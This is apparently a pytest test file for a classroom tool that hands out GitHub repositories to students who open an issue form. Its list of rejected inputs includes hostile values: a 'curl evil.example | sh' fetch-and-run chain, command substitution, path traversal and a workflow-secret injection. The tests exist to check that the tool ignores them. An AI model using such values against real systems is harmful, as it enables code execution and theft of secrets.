"""A student asks for a repository in an issue: it gets the author, whatever the issue says, and the reply tells nothing else."""

import json
from dataclasses import replace
from itertools import count
from pathlib import Path

import pytest
from classroom.cli.main import main
from classroom.core.errors import UsageError
from classroom.instructor.github.accepting import LATER, Accepting, read_request
from classroom.instructor.github.provider import ProviderError
from classroom.instructor.roster import Roster
from github_stand_in import Killed
from github_stand_in.events import event, issue_opened
from github_stand_in.server import served

from .conftest import WEEK, student

PLACE = "start"
FORM = f"### Week\n\n{WEEK}"
ROSTER = Roster(tuple(replace(student(name), name=f"{name.title()} of the roster") for name in ("ada", "bob")))


@pytest.fixture
def ask(stand_in, course, tmp_path):
    """Return a function that lets somebody open an issue, or the same one again, and returns what became of it."""
    stand_in.add(PLACE, private=False)

    def run(name="ada", body=FORM, roster=ROSTER, *, again=False, course=course):
        if not again:
            stand_in.open_issue(PLACE, name, "My repository", body)
        number = len(stand_in.of(PLACE).issues)
        account = stand_in.accounts[name.casefold()][1]
        path = tmp_path / "event.json"
        path.write_text(json.dumps(issue_opened(f"school/{PLACE}", number, name, account, body)))
        return Accepting(course.provider, [WEEK], lambda: roster).answer(read_request(path))

    return run


def replies(stand_in, number=1):
    """Return what was written to the author of an issue."""
    return [item["body"] for item in stand_in.of(PLACE).comments.get(number, [])]


def issue(stand_in):
    """Return the last issue's state, and whether it is locked."""
    found = stand_in.of(PLACE).issues[-1]
    return found["state"], found["locked"]


def test_the_author_gets_a_repository(ask, stand_in):
    """The reply has the invitation and the line to clone; the issue is closed and locked."""
    accepted = ask()

    assert (accepted.handed.state, accepted.handed.access) == ("new", "invited")
    (reply,) = replies(stand_in)
    assert f"https://github.com/school/{WEEK}-ada/invitations" in reply
    assert f"git clone https://github.com/school/{WEEK}-ada\n" in reply
    assert "of the roster" not in reply
    assert issue(stand_in) == ("closed", True)


def test_who_asks_again_gets_the_same_repository(ask, stand_in):
    """A second issue changes nothing on GitHub but itself."""
    ask()
    stand_in.accept(f"{WEEK}-ada", "ada")

    assert ask().handed.state == "kept"
    assert "invitation" not in replies(stand_in, 2)[0]
    assert len(stand_in.repositories) == 3


@pytest.mark.parametrize(
    "body",
    [
        "",
        "### Week\n\nweek2-validation",
        "### Week\n\n_No response_",
        f"### Week\n\n{WEEK}; curl evil.example | sh",
        f"### Week\n\n$(touch {WEEK})",
        f"### Week\n\n../{WEEK}",
        f"Week\n\n{WEEK}",
        "### Week\n\nweek2-validation\n\n### Week\n\n" + WEEK,
        "${{ secrets.CLASSROOM_TOKEN }}\u2028### Week" + " " * 60_000,
    ],
)
def test_a_text_that_is_not_the_forms_gets_a_link_to_the_form(ask, stand_in, body):
    """None of it is used or repeated."""
    assert ask(body=body).handed is None
    assert replies(stand_in) == [
        "Please use the form and choose one of its weeks: https://github.com/school/start/issues/new?template=accept.yml"
    ]
    assert issue(stand_in) == ("closed", True)
    assert f"school/{WEEK}-ada" not in stand_in.repositories


def test_text_around_the_choice_does_not_count(ask):
    """What a student adds to the form is ignored, and GitHub may send the line ends of Windows."""
    assert ask(body=f"### Week\r\n\r\n{WEEK}\r\n\r\n@teacher `id` please").handed.state == "new"


def test_who_is_not_on_the_roster_gets_none(ask, stand_in):
    """The reply names nobody who is."""
    assert ask("cleo").handed is None
    (reply,) = replies(stand_in)
    assert "not on this course's list yet" in reply
    assert "ada" not in reply
    assert len(stand_in.repositories) == 2


def test_without_a_roster_everybody_gets_one(ask, stand_in):
    """Nobody's repository is looked at for a former username, whatever their number."""
    stand_in.add(f"{WEEK}-zoe", made_from=stand_in.of(WEEK))

    assert ask("cleo", roster=None).handed.state == "new"
    assert not [line for line in stand_in.log if f"{WEEK}-zoe" in line]


def test_a_renamed_student_keeps_the_repository(ask, stand_in):
    """The roster's github_id says who it is."""
    number = str(stand_in.accounts["ada"][1])
    roster = Roster((student("ada", other={"github_id": number}),))
    ask(roster=roster)
    stand_in.accept(f"{WEEK}-ada", "ada")
    stand_in.rename("ada", "countess")

    handed = ask("countess", roster=roster).handed

    assert (handed.repository, handed.state, handed.access) == (f"{WEEK}-ada", "kept", "accepted")


def test_who_took_over_a_username_gets_none(ask, stand_in):
    """The account has another number than the one on the roster."""
    roster = Roster((student("ada", other={"github_id": "1"}),))

    assert ask(roster=roster).handed is None
    assert f"school/{WEEK}-ada" not in stand_in.repositories


def test_what_cannot_be_done_yet_stays_open(ask, stand_in):
    """The student is told once, the reason goes to the instructor, and running it again ends well."""
    stand_in.full = "Repository limit reached"
    for again in (False, True):
        with pytest.raises(ProviderError, match="Repository limit reached"):
            ask(again=again)
    assert (replies(stand_in), issue(stand_in)[0]) == ([LATER], "open")
    stand_in.full = ""

    assert ask(again=True).handed.state == "new"
    assert len(replies(stand_in)) == 2
    assert issue(stand_in) == ("closed", True)


def test_a_repository_that_is_somebody_elses_is_left_alone(ask, stand_in):
    """The reason is for the instructor, so the public reply does not have it."""
    stand_in.add(f"{WEEK}-ada")

    assert "was not made from" in ask().handed.problem
    assert (replies(stand_in), issue(stand_in)[0]) == ([LATER], "open")


def test_a_template_that_is_none_is_told(ask, stand_in):
    """Students can ask before the week is published."""
    stand_in.of(WEEK).is_template = False

    with pytest.raises(UsageError, match="is not a template"):
        ask()
    assert issue(stand_in)[0] == "open"


@pytest.mark.parametrize("permission", ["administration", "contents", "issues"])
def test_a_missing_permission_is_named_before_anything_is_created(ask, stand_in, permission):
    """Each that the token needs, in turn."""
    del stand_in.permissions[permission]

    with pytest.raises(ProviderError, match=f"(?i){permission} \\(read"):
        ask()
    assert f"school/{WEEK}-ada" not in stand_in.repositories


def test_killed_at_each_request_there_is_one_repository_and_one_reply(ask, open_course, stand_in):
    """Run again, each time from the beginning."""
    stand_in.open_issue(PLACE, "ada", "My repository", FORM)
    for at in count(1):
        stand_in.kill_at, stand_in.kill_after = len(stand_in.log) + at, bool(at % 2)
        try:
            ask(again=True, course=open_course(stand_in))
        except Killed:
            continue
        break
    assert at > 10
    stand_in.kill_at = None

    assert ask(again=True).handed.state == "kept"
    assert len(replies(stand_in)) == 1
    assert issue(stand_in) == ("closed", True)
    assert list(stand_in.of(f"{WEEK}-ada").invitations) == [stand_in.accounts["ada"][1]]


@pytest.mark.parametrize(
    "payload",
    [
        event("workflow-dispatch"),
        issue_opened("school/start", 1, "dependabot[bot]", 7, FORM),
        issue_opened("school/start", 1, "../..", 7, FORM),
    ],
    ids=["another event", "a bot", "a path"],
)
def test_other_events_are_refused(tmp_path, payload):
    """Nothing is asked of GitHub."""
    path = tmp_path / "event.json"
    path.write_text(json.dumps(payload))

    with pytest.raises(UsageError):
        read_request(path)


@pytest.fixture
def command(stand_in, tmp_path, monkeypatch, capsys):
    """Return a function that runs the command on an event, and returns its status, output and errors."""
    stand_in.add(PLACE, private=False)
    stand_in.open_issue(PLACE, "ada", "My repository", FORM)
    (tmp_path / "roster.csv").write_text("identifier,github_username,name\nA1,ada,Ada Lovelace\n")
    monkeypatch.chdir(Path(__file__).parents[5])
    with served(stand_in) as address:
        environment = {"GITHUB_API_URL": address, "CLASSROOM_TOKEN": stand_in.token}
        for name, value in (environment | {"GITHUB_EVENT_PATH": str(tmp_path / "event.json")}).items():
            monkeypatch.setenv(name, value)

        def run(repository=f"school/{PLACE}"):
            payload = issue_opened(repository, 1, "ada", stand_in.accounts["ada"][1], FORM)
            (tmp_path / "event.json").write_text(json.dumps(payload))
            words = ("github", "accept", "school", "--weeks", "1", "--roster", str(tmp_path / "roster.csv"))
            return main([*words]), *capsys.readouterr()

        yield run


def test_the_public_log_names_nobody(command):
    """The workflow's log is public: the repository is, the name on the roster is not."""
    assert command() == (0, f"Issue 1: {WEEK}-ada, new, invited\n", "")


@pytest.mark.parametrize(
    "text",
    ["A1,ada@school.example\n", "username,email\nada,ada@school.example\nbob,ada@school.example\n"],
    ids=["without headings", "an email twice"],
)
def test_a_roster_that_cannot_be_used_is_not_quoted(command, stand_in, tmp_path, text):
    """On a private terminal the message shows the row; here it would be published. The student is told to wait."""
    (tmp_path / "roster.csv").write_text(text)

    status, out, error = command()

    assert (status, out) == (2, "")
    assert f"The roster {tmp_path / 'roster.csv'} cannot be used." in error
    assert "school.example" not in error
    assert (replies(stand_in), issue(stand_in)[0]) == ([LATER], "open")


def test_an_issue_of_another_organization_is_refused(command):
    """The reply would be written to the wrong place."""
    status, _, error = command("elsewhere/start")

    assert (status, error) == (2, "The issue is in elsewhere/start, not in school.\n")


def test_outside_of_a_workflow_there_is_no_event(command, monkeypatch, capsys):
    """The command says what to use instead."""
    monkeypatch.delenv("GITHUB_EVENT_PATH")

    assert main(["github", "accept", "school", "--weeks", "1"]) == 2
    assert "use `classroom github hand-out`" in capsys.readouterr().err


def test_students_without_an_account_on_the_roster_are_not_the_author(ask):
    """An empty cell is nobody's username."""
    roster = Roster((replace(student("ada"), account=""),))

    assert ask("bob", roster=roster).handed is None
